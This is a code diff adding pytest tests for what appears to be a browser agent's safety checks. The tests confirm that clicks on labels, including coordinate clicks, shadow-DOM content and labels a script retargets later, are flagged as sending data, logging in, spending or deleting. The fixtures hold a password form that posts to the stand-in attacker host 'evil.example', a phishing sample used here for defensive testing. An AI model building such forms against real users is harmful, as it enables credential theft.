@@ -183,6 +183,43 @@ def test_a_press_has_the_hazards_of_all_that_it_may_send(page, text, tool, name,
     )
 
 
+LABEL = "<label style='display: block; cursor: pointer' {}>Go on</label>"
+PAYMENT = "<form method='post' action='http://evil.example/x'>{}<input type='password'></form>"
+LABELS = {
+    "by id": (LABEL.format("for='b'") + PAYMENT.format("<button id='b'>Next</button>"), {"sends", "logs_in"}),
+    "from within": (PAYMENT.format("<label style='cursor: pointer'>Go on<button>Next</button></label>"),
+                    {"sends", "logs_in"}),
+    "by its words": (LABEL.format("for='b'") + "<button type='button' id='b'>Buy now</button>", {"spends"}),
+    "by its value": (LABEL.format("for='b'") + "<input type='button' id='b' value='Delete'>", {"deletes"}),
+    "of no control": (LABEL.format("") + PAYMENT.format("<button>Next</button>"), set()),
+    "of a box": (LABEL.format("for='b'") + "<form method='post'><input type='checkbox' id='b'></form>", set()),
+    "in a shadow root": (
+        "<div id='host'></div><script>host.attachShadow({mode: 'open'}).innerHTML = `"
+        + LABEL.format("for='b'") + PAYMENT.format("<button id='b'>Next</button>") + "`</script>",
+        {"sends", "logs_in"},
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("text", "hazards"), LABELS.values(), ids=LABELS.keys())
+def test_a_press_on_a_label_has_the_hazards_of_its_control(page, run, text, hazards):
+    tab = page(text)
+    label = next(control for control in tab.look().controls if control.kind == "clickable")
+    assert tab.hazards("click", label) == hazards
+    assert tab.hazards("click_at", x=label.box.x + 5, y=label.box.y + 5) == hazards
+    resources = run(tab.surface.resources(tab.target, "click", {"control_id": label.id}))
+    assert ("origin:http://evil.example" in resources) == ("logs_in" in hazards)
+
+
+def test_a_label_whose_control_changes_after_the_ruling_is_not_pressed(page):
+    tab = page(LABEL.format("for='a'") + "<input id='a'><form method='post'><button id='b'>Next</button></form>")
+    label = tab.control("Go on", "clickable")
+    assert tab.hazards("click", label) == set()
+    tab.script("() => { document.querySelector('label').htmlFor = 'b' }")
+    with pytest.raises(ToolError, match="now it sends"):
+        tab.do("click", label)
+
+
 def test_a_form_that_a_script_sends_is_ruled_on_the_second_time(page, shop):
     tab, count = (
         page(
